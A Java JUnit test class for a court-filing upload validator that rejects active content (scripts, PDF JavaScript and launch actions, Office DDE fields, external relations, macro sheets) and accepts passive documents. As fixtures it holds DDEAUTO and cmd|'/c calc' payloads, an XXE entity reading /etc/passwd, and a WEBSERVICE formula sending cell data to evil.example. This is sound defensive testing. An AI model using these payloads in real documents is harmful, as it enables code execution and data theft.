package org.lian.materials;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.lian.CourtTest;
import org.lian.vocabulary.Actor;
import org.lian.vocabulary.FilingId;
import org.lian.vocabulary.Refusal;
import org.lian.vocabulary.Role;
import org.springframework.beans.factory.annotation.Autowired;

/** 会动的文件: what would run a script, start a program or fetch something is not taken, and the words say what helps. */
@CourtTest
class ActiveContentTests {
    private static final Actor LITIGANT = new Actor("a-1", "zhangsan", Set.of(Role.LITIGANT), Set.of());
    private static final String RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    @Autowired
    Materials materials;

    private final FilingId filing = FilingId.random();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "合同.hta",
                "借条.js",
                "借条.vbs",
                "说明.ps1",
                "证据.url",
                "证据.scf",
                "证据.reg",
                "证据.wsf",
                "证据.settingcontent-ms",
                "证据.library-ms",
                "证据.rdp",
                "证据.iqy",
                "网页.html",
                "证据.jnlp",
                "借条.pdf.js",
                "证据.lnk",
                "证据.svg",
                "证据.xslt",
                "证据.bat",
                "证据.HTA"
            })
    @DisplayName("内容是文字、扩展名却是脚本或者程序的：退回，说出文件名和改法")
    void scripts(String name) {
        var refusal = refused(name, "CreateObject(\"WScript.Shell\").Run \"calc\"".getBytes(StandardCharsets.UTF_8));

        assertThat(refusal.faults().get(0).code()).isEqualTo("TYPE_MISMATCH");
        assertThat(refusal.detail()).contains("“" + name + "”").contains("扩展名改为 .txt");
    }

    @ParameterizedTest
    @CsvSource({"照片.hta", "照片.exe"})
    @DisplayName("图片起了别的扩展名，同样要先改名")
    void otherTypesUnderAnotherEnding(String name) throws Exception {
        assertThat(refused(name, pdf(document -> {})).detail()).contains("“" + name + "”", "扩展名改为 .pdf");
    }

    @ParameterizedTest
    @CsvSource({
        "借条.txt, 借条.txt",
        "流水.csv, 流水.csv.txt",
        "说明.md, 说明.md.txt",
        "没有扩展名, 没有扩展名.txt",
        "2026.11.25, 2026.11.25.txt",
        "给法院.的说明, 给法院.的说明.txt"
    })
    @DisplayName("文字一律以 .txt 交给别人；日期和中文不是扩展名，照收")
    void textIsHandedOutAsText(String sent, String handedOut) {
        var material = add(sent, "今借到人民币壹拾万元整。".getBytes(StandardCharsets.UTF_8));

        assertThat(material.fileName()).isEqualTo(sent);
        assertThat(material.safeName()).isEqualTo(handedOut);
    }

    @Test
    @DisplayName("以前收下的：交出去时按真实类型补上扩展名，图片在同类里写错不必补")
    void whatWasTakenEarlier() {
        assertThat(earlier("合同.hta", "text/plain")).isEqualTo("合同.hta.txt");
        assertThat(earlier("合同.hta.", "text/plain")).isEqualTo("合同.hta..txt");
        assertThat(earlier("录音.js", "audio/mpeg")).isEqualTo("录音.js.mp3");
        assertThat(earlier("判决.settingcontent-ms", "application/pdf")).isEqualTo("判决.settingcontent-ms.pdf");
        assertThat(earlier("照片.png", "image/jpeg")).isEqualTo("照片.png");
        assertThat(earlier("判决.PDF", "application/pdf")).isEqualTo("判决.PDF");
        assertThat(earlier("合同", "application/pdf")).isEqualTo("合同.pdf");
        assertThat(earlier("合同.hta", "text/html")).as("a type no longer known").isEqualTo("合同.hta.bin");
    }

    @Test
    @DisplayName("PDF 里有脚本、会打开程序、夹带文件的：退回，请打印成 PDF 或者拍照")
    void activePdf() throws Exception {
        activePdf("PDF_ACTIVE", document -> document.getDocumentCatalog()
                .setOpenAction(new PDActionJavaScript("app.alert(1)")));
        activePdf("PDF_ACTIVE", document -> {
            var launch = new PDActionLaunch();
            launch.setF("calc.exe");
            document.getDocumentCatalog().setOpenAction(launch);
        });
        activePdf("PDF_ACTIVE", document -> {
            var link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 50, 50));
            link.setAction(new PDActionLaunch());
            document.getPage(0).setAnnotations(List.of(link));
        });
        activePdf("PDF_ACTIVE", document -> {
            var triggers = new PDPageAdditionalActions();
            triggers.setO(uri());
            document.getPage(0).setActions(triggers);
        });
        activePdf("PDF_ACTIVE", document -> document.getDocumentCatalog().setOpenAction(uri()));
        activePdf("PDF_ACTIVE", document -> {
            var form = new COSDictionary();
            form.setString(COSName.getPDFName("XFA"), "<xdp/>");
            document.getDocumentCatalog().getCOSObject().setItem("AcroForm", form);
        });
        activePdf("PDF_EMBEDDED", document -> embed(document, "发票.exe"));
        activePdf("PDF_EMBEDDED", document -> embed(document, "说明"));
    }

    @Test
    @DisplayName("打开时翻到某一页、可以点的网址、电子发票带的数据文件：照收")
    void passivePdf() throws Exception {
        var passive = pdf(document -> {
            var destination = new PDPageFitDestination();
            destination.setPage(document.getPage(0));
            var open = new PDActionGoTo();
            open.setDestination(destination);
            document.getDocumentCatalog().setOpenAction(open);
            var link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(10, 10, 50, 50));
            link.setAction(uri());
            document.getPage(0).setAnnotations(List.of(link));
            embed(document, "invoice.xml");
        });

        assertThat(add("发票.pdf", passive).pages()).isEqualTo(1);
    }

    @Test
    @DisplayName("Office 文件引用外部模板、图片、工作簿，嵌有程序对象、别的文档，带 DOCTYPE 的：退回，请另存为 PDF")
    void activeOffice() throws Exception {
        for (var type : List.of("attachedTemplate", "image", "oleObject", "frame", "externalLinkPath")) {
            activeOffice(
                    "OFFICE_ACTIVE",
                    "word/_rels/settings.xml.rels",
                    relation(type, "https://evil.example/x", "External"));
        }
        activeOffice("OFFICE_ACTIVE", "word/_rels/document.xml.rels", relation("aFChunk", "a.html", "Internal"));
        for (var target : List.of("file://evil/share", "\\\\evil\\share", "//evil/share", "search-ms:query=x")) {
            activeOffice("OFFICE_ACTIVE", "word/_rels/document.xml.rels", relation("hyperlink", target, "External"));
        }
        for (var charset : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
            activeOffice("OFFICE_ACTIVE", "word/styles.xml", doctype(charset));
        }
        var ole = new byte[600];
        System.arraycopy(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0}, 0, ole, 0, 4);
        activeOffice("OFFICE_EMBEDDED", "word/embeddings/oleObject1.bin", ole);
        activeOffice("OFFICE_EMBEDDED", "word/media/image1.png", ole);
        activeOffice("OFFICE_MACROS", "xl/macrosheets/sheet1.xml", "<x/>".getBytes(StandardCharsets.UTF_8));
        activeOffice(
                "OFFICE_BROKEN", "word/_rels/document.xml.rels", "<Relationships".getBytes(StandardCharsets.UTF_8));
    }

    @Test
    @DisplayName("嵌在里面的文档同样检查；可以点的网址、邮箱、同目录文件照收")
    void insideAndPassiveOffice() throws Exception {
        var inner = zip(Map.of(
                "[Content_Types].xml", "<Types/>".getBytes(StandardCharsets.UTF_8),
                "xl/workbook.xml", "<workbook/>".getBytes(StandardCharsets.UTF_8),
                "xl/_rels/workbook.xml.rels", relation("externalLinkPath", "file:///c:/x", "External")));
        activeOffice("OFFICE_ACTIVE", "word/embeddings/a.xlsx", inner);

        for (var target : List.of("https://www.court.gov.cn/", "mailto:a@b.cn", "#书签", "附件.docx")) {
            assertThat(add(
                                    "合同" + target.hashCode() + ".docx",
                                    office("word/_rels/document.xml.rels", relation("hyperlink", target, "External")))
                            .mediaType())
                    .contains("wordprocessingml");
        }
        assertThat(add("图.docx", office("word/_rels/document.xml.rels", relation("image", "media/a.png", "Internal")))
                        .safeName())
                .isEqualTo("图.docx");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<r><instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</instrText></r>",
                "<r><fldChar fldCharType='begin'/></r><r><instrText>D</instrText></r><r><instrText>DE</instrText></r>"
                        + "<r><instrText>AUTO cmd</instrText></r><r><fldChar fldCharType='end'/></r>",
                "<r><fldChar fldCharType='begin'/><instrText> ddeauto excel \"x\"</instrText>",
                "<fldSimple instr=' DDE excel book1 '/>",
                "<fldSimple instr=' INCLUDEPICTURE \"http://evil.example/x.png\" '/>",
                "<r><instrText>INCLUDE</instrText></r><r><instrText>PICTURE \\d \"https://evil</instrText></r>"
                        + "<r><instrText>.example/x\"</instrText></r>",
                "<fldSimple instr='INCLUDETEXT \"\\\\\\\\evil\\\\share\\\\a.docx\"'/>",
                "<fldChar fldCharType='begin'/><instrText>INCLUDEPICTURE \"</instrText><fldChar fldCharType='begin'/>"
                        + "<instrText>QUOTE 104 116 116 112</instrText><fldChar fldCharType='end'/>"
                        + "<instrText>\"</instrText><fldChar fldCharType='end'/>",
                "<fldSimple instr='HYPERLINK \"file:///c:/windows/system32/calc.exe\"'/>",
                "<fldSimple instr='LINK Excel.Sheet.12 \"c:\\\\a.xlsx\"'/>"
            })
    @DisplayName("Word 文件里会启动程序、到别处取内容的域，分成几段写的也一样：退回，请另存为 PDF")
    void activeFields(String body) throws Exception {
        var closed = body.contains("begin'/><instrText> dde") ? body + "</r>" : body;
        activeOffice(
                "OFFICE_ACTIVE", "word/header1.xml", ("<hdr>" + closed + "</hdr>").getBytes(StandardCharsets.UTF_8));
        activeOffice(
                "OFFICE_ACTIVE", "word/main.part", ("<hdr>" + closed + "</hdr>").getBytes(StandardCharsets.UTF_16));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>",
                "<worksheet><f>1+'cmd'|'/c calc'!'A0'</f></worksheet>",
                "<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>",
                "<worksheet><f>_xlfn.WEBSERVICE(\"http://evil.example/?\"&amp;A1)</f></worksheet>",
                "<worksheet><f>HYPERLINK(\"c:\\windows\\system32\\calc.exe\",\"看\")</f></worksheet>",
                "<worksheet><f>IF(A1,HYPERLINK(\"ca\"&amp;\"lc.exe\",\"看\"))</f></worksheet>",
                "<externalLink><externalBook/></externalLink>",
                "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
            })
    @DisplayName("Excel 文件里的 DDE、外部链接、取网页内容和指向程序的公式：退回，请另存为 PDF")
    void activeFormulas(String part) throws Exception {
        activeOffice("OFFICE_ACTIVE", "xl/part1.xml", part.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    @DisplayName("页码、目录、插入的本机图片，求和、文字里有竖线、指向网页和本表的链接：照收")
    void passiveFieldsAndFormulas() throws Exception {
        for (var part : List.of(
                "<hdr><fldSimple instr=' PAGE  \\* MERGEFORMAT '/><instrText>TOC \\o \"1-3\" \\h</instrText></hdr>",
                "<hdr><instrText>HYPERLINK \\l \"_Toc1\"</instrText></hdr>",
                "<hdr><instrText>HYPERLINK \"https://www.court.gov.cn/\"</instrText></hdr>",
                "<hdr><fldSimple instr='INCLUDEPICTURE \"C:\\\\Users\\\\a\\\\1.png\" \\* MERGEFORMATINET'/></hdr>",
                "<worksheet><f>SUM(A1:A9)&amp;\"甲|乙!\"</f><f>'甲|乙'!A1</f><v>cmd|'/c calc'!A0</v></worksheet>",
                "<worksheet><f>HYPERLINK(\"#'目录'!A1\",\"返回: 目录\")</f><f>HYPERLINK(A1)</f></worksheet>")) {
            assertThat(add(
                                    "表" + part.hashCode() + ".docx",
                                    office("word/header1.xml", part.getBytes(StandardCharsets.UTF_8)))
                            .mediaType())
                    .contains("wordprocessingml");
        }
        assertThat(add("旧表.docx", office("xl/drawings/a.vml", "<xml><br></xml>".getBytes(StandardCharsets.UTF_8)))
                        .mediaType())
                .contains("wordprocessingml");
    }

    /** What a test does to a fresh document of one page. */
    private interface Edit {
        void to(PDDocument document) throws IOException;
    }

    private void activePdf(String code, Edit edit) throws IOException {
        var refusal = refused("证据.pdf", pdf(edit));
        assertThat(refusal.faults().get(0).code()).as(refusal.detail()).isEqualTo(code);
        assertThat(refusal.detail()).contains("“证据.pdf”", "拍照");
    }

    private void activeOffice(String code, String part, byte[] content) throws IOException {
        var refusal = refused("合同.docx", office(part, content));
        assertThat(refusal.faults().get(0).code()).as(refusal.detail()).isEqualTo(code);
        assertThat(refusal.detail()).contains("“合同.docx”", "另存为 PDF");
    }

    private Refusal refused(String name, byte[] content) {
        var refusal = catchThrowableOfType(Refusal.class, () -> add(name, content));
        assertThat(refusal).as(name).isNotNull();
        assertThat(materials.of(filing)).isEmpty();
        return refusal;
    }

    private Material add(String name, byte[] content) {
        return materials.add(filing, "EVIDENCE", name, new ByteArrayInputStream(content), LITIGANT);
    }

    private String earlier(String name, String mediaType) {
        return new Material(
                        UUID.randomUUID(),
                        filing,
                        Material.Kind.EVIDENCE,
                        name,
                        mediaType,
                        1,
                        "",
                        Material.Scan.NOT_SCANNED,
                        java.time.Instant.EPOCH,
                        null,
                        null)
                .safeName();
    }

    private static PDActionURI uri() {
        var uri = new PDActionURI();
        uri.setURI("https://evil.example/seen");
        return uri;
    }

    private static void embed(PDDocument document, String name) throws IOException {
        var file = new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[] {'M', 'Z'}));
        var specification = new PDComplexFileSpecification();
        specification.setFile(name);
        specification.setFileUnicode(name);
        specification.setEmbeddedFile(file);
        var tree = new PDEmbeddedFilesNameTreeNode();
        tree.setNames(Map.of(name, specification));
        var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
        names.setEmbeddedFiles(tree);
        document.getDocumentCatalog().setNames(names);
    }

    private static byte[] pdf(Edit edit) throws IOException {
        try (var document = new PDDocument()) {
            document.addPage(new PDPage(PDRectangle.A4));
            document.getDocumentInformation().setTitle(UUID.randomUUID().toString());
            edit.to(document);
            var out = new ByteArrayOutputStream();
            // With object streams: the actions lie packed inside others.
            document.save(out);
            return out.toByteArray();
        }
    }

    private static byte[] relation(String type, String target, String mode) {
        return """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" Type="%s%s" Target="%s" TargetMode="%s"/></Relationships>""".formatted(RELATIONS, type, target, mode).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] doctype(Charset charset) {
        return "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
                .getBytes(charset);
    }

    private static byte[] office(String part, byte[] content) throws IOException {
        return zip(Map.of(
                "[Content_Types].xml",
                "<Types/>".getBytes(StandardCharsets.UTF_8),
                "word/document.xml",
                "<document/>".getBytes(StandardCharsets.UTF_8),
                part,
                content));
    }

    private static byte[] zip(Map<String, byte[]> parts) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }
}
